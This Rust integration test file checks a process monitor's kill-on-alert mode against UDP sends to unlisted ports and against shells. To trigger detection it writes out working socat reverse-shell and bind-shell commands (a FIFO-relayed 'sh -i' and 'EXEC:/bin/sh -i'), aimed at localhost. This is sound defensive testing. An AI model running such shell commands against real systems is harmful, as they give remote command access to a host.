//! `--kill-on-alert` for the findings user space kills: UDP sent to a suspicious port without
//! connect (sendto, sendmsg, sendmmsg) and reverse shells (a relayed one, a bind shell). The
//! flagged process dies with the child it forked before the verdict; a benign counterpart
//! that ran first stays alive and unflagged. As root; the kill scope is this test process's
//! tree (a child subreaper, so orphans are reaped here), and the tests take turns.
use std::{
    io::Write,
    net::{TcpStream, UdpSocket},
    os::unix::process::CommandExt,
    os::unix::process::ExitStatusExt,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::Mutex,
    time::{Duration, Instant},
};

use procwatch_tests::{
    Actor, FifoRelay, Monitor, TempDir, become_subreaper, has_rule, reap, require_root,
    scratch_base,
};

/// One test at a time: each kills within the whole test process's tree.
static TURN: Mutex<()> = Mutex::new(());

fn actor() -> PathBuf {
    procwatch_tests::stable_actor(Path::new(env!("CARGO_BIN_EXE_pw-actor")))
}

/// True while `pid` runs (not a zombie).
fn alive(pid: u32) -> bool {
    procwatch::procfs::stat::read_stat(pid).is_ok_and(|s| s.state != b'Z' && s.state != b'X')
}

/// Reads the actor's lines up to `after ...`, returning the `child N` pid it printed.
fn sent(a: &mut Actor) -> u32 {
    let mut child = None;
    loop {
        let line = a
            .read_line()
            .unwrap_or_else(|| panic!("the actor ended early"));
        if let Some(p) = line.strip_prefix("child ") {
            child = p.parse().ok();
        }
        if line.starts_with("after") {
            assert!(!line.contains('-'), "the send failed: {line}");
            return child.expect("a child line");
        }
    }
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn udp_to_a_suspicious_port_is_killed_with_its_child_and_a_listed_port_is_not() {
    require_root!();
    let _turn = TURN.lock().unwrap_or_else(|e| e.into_inner());
    become_subreaper();
    let listed = UdpSocket::bind("127.0.0.1:0").expect("bind udp");
    let listed_port = listed.local_addr().expect("addr").port().to_string();
    let sink = UdpSocket::bind("127.0.0.1:0").expect("bind udp");
    let port = sink.local_addr().expect("addr").port().to_string();
    let me = std::process::id().to_string();
    let m = Monitor::start(
        &format!("sweep_interval: 1s\nports: \"53,80,443,{listed_port}\"\n"),
        &["--kill-on-alert", "--enforce-scope-pid", &me],
    );
    // Benign first: the same send to a listed port, held open.
    let mut quiet = Actor::spawn(
        &actor(),
        &["udp-send", "sendto", "127.0.0.1", &listed_port, "60"],
    );
    let quiet_child = sent(&mut quiet);
    for how in ["sendto", "sendmsg", "sendmmsg"] {
        let mut loud = Actor::spawn(&actor(), &["udp-send", how, "127.0.0.1", &port, "60"]);
        let pid = loud.pid();
        let child = sent(&mut loud);
        let (status, lines) = loud.finish();
        assert_eq!(status.signal(), Some(libc::SIGKILL), "{how}: {lines:?}");
        let a = m.expect_rule(pid, "suspicious_port");
        assert_eq!(a["action"], "killed", "{how}: {a:#}");
        assert_eq!(a["trigger"]["via"], how, "{a:#}");
        let ended = reap(child, Duration::from_secs(30));
        assert_eq!(
            ended.and_then(|s| s.signal()),
            Some(libc::SIGKILL),
            "{how}: the flagged process's child still runs ({ended:?})"
        );
    }
    // The loud sends above are the positive control: the quiet one's events are all in.
    assert!(
        alive(quiet.pid()) && alive(quiet_child),
        "the benign sender was killed"
    );
    assert!(
        m.alerts().iter().all(|a| a["pid"] != quiet.pid()),
        "{:#?}",
        m.alerts()
    );
    // SAFETY: ending our own processes.
    unsafe {
        libc::kill(quiet_child as i32, libc::SIGKILL);
        libc::kill(quiet.pid() as i32, libc::SIGKILL);
    }
    let _ = quiet.finish();
    let _ = reap(quiet_child, Duration::from_secs(10));
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn a_relayed_and_a_bind_shell_are_killed_and_a_piped_shell_is_not() {
    require_root!();
    let _turn = TURN.lock().unwrap_or_else(|e| e.into_inner());
    become_subreaper();
    let me = std::process::id().to_string();
    // Only the shells may be judged here: the relay's and this test's own connects go to
    // unlisted ports, and in this scope a suspicious_port alert would kill them.
    let m = Monitor::start(
        "sweep_interval: 1s\nweights:\n  suspicious_port: 0\n",
        &["--kill-on-alert", "--enforce-scope-pid", &me],
    );
    // Benign first: a shell reading commands from a pipe whose writer has no connection.
    let mut quiet = Command::new("sh")
        .args(["-c", "sleep 120 | /bin/sh -s"])
        .stdin(Stdio::null())
        // Not this test's output pipe: this process holds sockets, so a shell writing into a
        // pipe it shares would be relayed through it.
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .process_group(0)
        .spawn()
        .expect("sh");
    let quiet_pid = quiet.id();
    let quiet_shell = shell_child_of_any(quiet_pid);

    // A relayed shell: `sh -i < fifo | socat TCP > fifo`.
    let dir = TempDir::new_in(&scratch_base(), "kill-relay");
    let relayed = FifoRelay::start(&dir.0.join("f"), |port| {
        format!("socat - TCP:127.0.0.1:{port}")
    });
    let outer_pid = relayed.pid();
    let a = m
        .wait_alert(Duration::from_secs(30), |a| {
            a["ppid"] == outer_pid && has_rule(a, "reverse_shell")
        })
        .unwrap_or_else(|| panic!("no relayed reverse shell; alerts: {:#?}", m.alerts()));
    assert_eq!(a["action"], "killed", "{a:#}");
    let shell = pid_of(&a);
    assert!(gone(shell), "the relayed shell still runs: {a:#}");
    relayed.end();

    // A bind shell: socat accepts, then runs the shell on the connection. It binds port 0, so
    // no port is borrowed from anyone; `ss` says which one the kernel gave it.
    let mut server = Command::new("socat")
        .args([
            "TCP-LISTEN:0,bind=127.0.0.1,reuseaddr",
            "EXEC:/bin/sh -i,stderr",
        ])
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("socat");
    let server_pid = server.id();
    let mut port = None;
    for _ in 0..200 {
        port = listening_port(server_pid);
        if port.is_some() {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let port = port.unwrap_or_else(|| panic!("socat {server_pid} never listened"));
    let mut conn = TcpStream::connect(("127.0.0.1", port))
        .unwrap_or_else(|e| panic!("connect to socat on {port}: {e}"));
    let a = m
        .wait_alert(Duration::from_secs(30), |a| {
            a["ppid"] == server_pid && has_rule(a, "reverse_shell")
        })
        .unwrap_or_else(|| panic!("no bind shell alert; alerts: {:#?}", m.alerts()));
    assert_eq!(a["action"], "killed", "{a:#}");
    let shell = pid_of(&a);
    assert!(gone(shell), "the bind shell still runs: {a:#}");
    let _ = conn.write_all(b"exit\n");
    drop(conn);
    let _ = server.kill();
    let _ = server.wait();

    // The two kills above are the positive control for the quiet shell, which ran first.
    let shell = quiet_shell;
    assert!(
        alive(shell),
        "the piped shell {shell} (of {quiet_pid}) was killed: {:?} {:?}",
        procwatch::procfs::stat::read_stat(shell).map(|s| s.state),
        m.alerts()
            .iter()
            .filter(|a| a["pid"] == quiet_pid || a["ppid"] == quiet_pid)
            .collect::<Vec<_>>()
    );
    assert!(
        m.alerts()
            .iter()
            .all(|a| a["pid"] != shell || !has_rule(a, "reverse_shell")),
        "{:#?}",
        m.alerts()
    );
    // SAFETY: ending our own process group (the quiet pipeline).
    unsafe { libc::kill(-(quiet_pid as i32), libc::SIGKILL) };
    let _ = quiet.wait();
    let _ = reap(shell, Duration::from_secs(10));
}

/// The alert's pid.
fn pid_of(a: &serde_json::Value) -> u32 {
    a["pid"]
        .as_u64()
        .and_then(|p| u32::try_from(p).ok())
        .unwrap_or_else(|| panic!("no pid: {a:#}"))
}

/// True once `pid` has ended (a zombie has ended), within 30 s.
fn gone(pid: u32) -> bool {
    procwatch_tests::eventually(Duration::from_secs(30), || !alive(pid))
}

/// The `/bin/sh -s` child of `parent`, once it runs.
fn shell_child_of_any(parent: u32) -> u32 {
    let end = Instant::now() + Duration::from_secs(30);
    loop {
        let children = std::fs::read_to_string(format!("/proc/{parent}/task/{parent}/children"))
            .unwrap_or_default();
        let found = children
            .split_whitespace()
            .filter_map(|c| c.parse::<u32>().ok())
            .find(|c| {
                std::fs::read(format!("/proc/{c}/cmdline"))
                    .unwrap_or_default()
                    .starts_with(b"/bin/sh\0-s")
            });
        if let Some(pid) = found {
            return pid;
        }
        assert!(
            Instant::now() < end,
            "no /bin/sh -s under {parent}: {children}"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The TCP port `pid` listens on, from `ss` (its own listening socket, matched by pid).
fn listening_port(pid: u32) -> Option<u16> {
    let out = Command::new("ss").args(["-Hltnp"]).output().ok()?;
    let needle = format!("pid={pid},");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .find(|l| l.contains(&needle))
        .and_then(|l| l.split_whitespace().nth(3))
        .and_then(|local| local.rsplit_once(':'))
        .and_then(|(_, p)| p.parse().ok())
}
